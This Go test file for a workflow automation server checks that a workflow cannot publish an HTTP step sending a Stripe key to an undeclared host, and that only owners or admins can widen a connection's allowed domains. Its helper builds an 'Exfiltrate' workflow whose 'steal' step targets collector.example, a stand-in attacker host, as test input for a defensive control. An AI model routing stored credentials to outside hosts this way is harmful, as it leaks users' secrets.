package server_test

import (
	"context"
	"encoding/json"
	"html"
	"net/url"
	"strings"
	"testing"

	"taskjuice/internal/connection"
	"taskjuice/internal/workflow"
)

// stripeWorkflow stores a Stripe connection and a workflow whose HTTP step
// sends its key to target.
func (e *env) stripeWorkflow(t *testing.T, target string) (connection.Connection, workflow.Workflow) {
	t.Helper()
	ctx := context.Background()
	c, err := e.connections.CreateWithCredential(ctx, e.acme, connection.New{AppKey: "stripe", Label: "Stripe live", Status: connection.StatusActive},
		connection.Credential{APIKey: "sk_live_SECRETKEY", Fields: map[string]string{"apiKey": "sk_live_SECRETKEY"}}, connection.System)
	must(t, err)
	cfg, _ := json.Marshal(map[string]any{"method": "GET", "url": target})
	g := workflow.Graph{Schema: 1, Trigger: &workflow.Node{ID: "start", Kind: workflow.TriggerManual},
		Nodes: []workflow.Node{{ID: "steal", Kind: workflow.NodeHTTP, Config: cfg, Connection: &workflow.Binding{ID: c.ID}}},
		Edges: []workflow.Edge{{From: "start", To: "steal"}}}
	w, err := e.workflows.Create(ctx, e.acme, "Exfiltrate", "", &g, "")
	must(t, err)
	return c, w
}

// A member cannot publish an HTTP step that sends a connection's key to a
// host its app does not declare: the editor shows the refusal on the step's
// URL field, naming the allowed hosts.
func TestPublishRefusesCredentialToOtherHost(t *testing.T) {
	each(t, func(t *testing.T, e *env) {
		_, w := e.stripeWorkflow(t, "https://collector.example/steal")
		member := e.signIn("member@a.example")
		wantRedirect(t, "publish", member.post("/acme/workflows/"+w.ID+"/publish", nil), "/acme/workflows/"+w.ID+"/edit?check=publish")
		res := member.get("/acme/workflows/" + w.ID + "/edit?check=publish")
		body := html.UnescapeString(res.Body)
		want := "This connection's credential may not be sent to collector.example; allowed hosts: api.stripe.com"
		if !strings.Contains(body, "Workflow compilation failed") || !strings.Contains(body, want) {
			t.Fatalf("refused publish: want the toast and %q; body: %.2000s", want, body)
		}
		// The message sits under the URL field of the step.
		i := strings.Index(body, `name="url"`)
		if i < 0 || !strings.Contains(body[i:min(len(body), i+800)], want) {
			t.Fatalf("the refusal is not at the URL field")
		}
		if got, _ := e.workflows.Get(context.Background(), e.acme, w.ID); got.Status == workflow.StatusPublished {
			t.Fatal("the workflow was published")
		}
	})
}

// An owner or admin may widen one connection's allowed domains on its
// page; the change is in its health history and the workflow then
// publishes. A member gets no form, and a 403 when posting anyway.
func TestAllowedDomainsOwnerOrAdminOnly(t *testing.T) {
	each(t, func(t *testing.T, e *env) {
		c, w := e.stripeWorkflow(t, "https://files.stripe.example/v1/upload")
		page := "/acme/connections/" + c.ID
		form := url.Values{"domains": {"files.stripe.example"}}

		member := e.signIn("member@a.example")
		if p := member.get(page); p.StatusCode != 200 || !strings.Contains(p.Body, "Allowed domains") || strings.Contains(p.Body, `name="domains"`) {
			t.Fatalf("member's page: %d, want the allowed domains shown without a form", p.StatusCode)
		}
		wantStatus(t, "member widens", member.post(page+"/allowed-domains", form), 403)
		if got, _ := e.connections.AllowedDomains(context.Background(), e.acme, c.ID); len(got) != 0 {
			t.Fatalf("after the member's attempt: allowed domains %v, want none", got)
		}
		wantRedirect(t, "member publishes", member.post("/acme/workflows/"+w.ID+"/publish", nil), "/acme/workflows/"+w.ID+"/edit?check=publish")

		admin := e.signIn("admin@a.example")
		if p := admin.get(page); !strings.Contains(p.Body, `name="domains"`) || !strings.Contains(p.Body, "<code>api.stripe.com</code>") {
			t.Fatalf("admin's page lacks the form or the app's host: %.3000s", p.Body)
		}
		if r := admin.post(page+"/allowed-domains", url.Values{"domains": {"*.stripe.example"}}); r.Header.Get("Location") != page+"#allowed-domains" {
			t.Fatalf("wildcard: got %d to %q, want the connection page", r.StatusCode, r.Header.Get("Location"))
		}
		bad := admin.get(page)
		if !strings.Contains(bad.Body, "*.stripe.example") {
			t.Fatal("wildcard: the form does not keep what was typed")
		}
		if !strings.Contains(html.UnescapeString(bad.Body), "wildcards are not allowed") {
			t.Fatalf("wildcard refusal does not say why: %.2000s", bad.Body)
		}
		wantRedirect(t, "admin widens", admin.post(page+"/allowed-domains", form), page)
		p := admin.get(page)
		if !strings.Contains(p.Body, "Allowed domains saved.") || !strings.Contains(p.Body, "Allowed domains changed: added files.stripe.example") {
			t.Fatalf("after widening: the page lacks the toast or the history entry: %.4000s", p.Body)
		}
		hist, err := e.connections.History(context.Background(), e.acme, c.ID)
		must(t, err)
		last := hist[len(hist)-1]
		if last.ActorKind != connection.ActorUser || last.ActorUserID == "" || last.Detail["allowedDomainsAdded"] != "https://files.stripe.example" {
			t.Fatalf("history entry: got %+v, want the admin adding https://files.stripe.example", last)
		}

		wantRedirect(t, "member publishes after widening", member.post("/acme/workflows/"+w.ID+"/publish", nil), "/acme/workflows/"+w.ID+"/edit")

		// The owner can narrow it again.
		owner := e.signIn("owner@a.example")
		wantRedirect(t, "owner narrows", owner.post(page+"/allowed-domains", url.Values{"domains": {""}}), page)
		if got, _ := e.connections.AllowedDomains(context.Background(), e.acme, c.ID); len(got) != 0 {
			t.Fatalf("after narrowing: %v, want none", got)
		}
	})
}
